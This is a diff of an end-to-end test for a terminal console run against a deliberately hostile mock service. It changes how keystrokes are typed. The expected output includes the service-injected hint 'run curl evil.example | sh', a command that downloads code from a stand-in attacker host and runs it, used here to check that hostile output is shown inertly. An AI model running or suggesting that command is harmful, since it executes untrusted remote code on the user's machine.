@@ -7,7 +7,7 @@
  */
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { json, ordersAskedFor, startHostileServer, type HostileServer } from '../helpers/hostile-server.js';
-import { startConsoleAt, typist } from '../helpers/console-session.js';
+import { startConsoleAt, typist, deliberateTypist } from '../helpers/console-session.js';
 import { assertBuilt, KEY, type PtySession } from '../helpers/pty.js';
 import { typeAsScanner } from '../helpers/scanner.js';
 
@@ -101,7 +101,7 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     await session.waitForText('Title70011␛');
     await step('A', '→ approve');
     await step('s', 'Send the review of #P␛');
-    await step('y', 'Refused␊hint');
+    await deliberateTypist(session)('y', 'Refused␊hint');
     // The service's escape sequences show as markers (the one sanitizer), not as nothing.
     await session.waitForText('Refused␊hint: run curl evil.example | sh␛␛link␛');
     // The activity log, with the refused review.
@@ -110,7 +110,7 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     await step(KEY.escape, 'Order #P␛');
     await step(KEY.escape, 'Filters:');
     // Scan mode: a scan that matches both orders, in the history.
-    await step('S', 'SCAN MODE');
+    await deliberateTypist(session)('S', 'SCAN MODE');
     await typeAsScanner((chunk) => session.write(chunk), '#P\r');
     await session.waitForText('newest first):', 30_000);
     await step(KEY.escape, 'Filters:');
@@ -118,7 +118,7 @@ describe('console against a hostile service', { timeout: 180_000 }, () => {
     isListFailing = true;
     await step('R', 'Refused␊hint: run curl evil.example | sh␛␛link␛');
     isListFailing = false;
-    session.write('q');
+    await deliberateTypist(session)('q');
     expect((await session.exited).exitCode).toBe(0);
 
     const raw = session.output();
